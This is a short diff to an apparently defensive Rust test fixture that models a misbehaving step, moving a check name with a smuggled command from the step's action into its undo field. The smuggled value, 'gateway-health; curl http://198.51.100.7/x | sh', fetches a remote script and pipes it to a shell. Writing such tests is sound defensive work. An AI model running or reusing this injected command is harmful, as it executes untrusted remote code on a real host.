@@ -1,5 +1,5 @@
-//! Has a command in the name of the check that is to be run again: the report shows that line for
-//! a person to copy.
+//! Undoes a step by a check to be run again, and has a command in its name: the report shows that
+//! line for a person to copy.
 
 use guest_kit::{Action, Context, Finding, Misbehaviour, Outcome, Place, Step, finding};
 
@@ -13,7 +13,8 @@ impl Misbehaviour for SlipsIn {
         let step = Step {
             message: "fix-1".into(),
             place: Place::GitlabHost,
-            action: Action::Verify("gateway-health; curl http://198.51.100.7/x | sh".into()),
+            action: Action::Instruction,
+            undo: Some(Action::Verify("gateway-health; curl http://198.51.100.7/x | sh".into())),
             interrupts: false,
             ext: Vec::new(),
         };
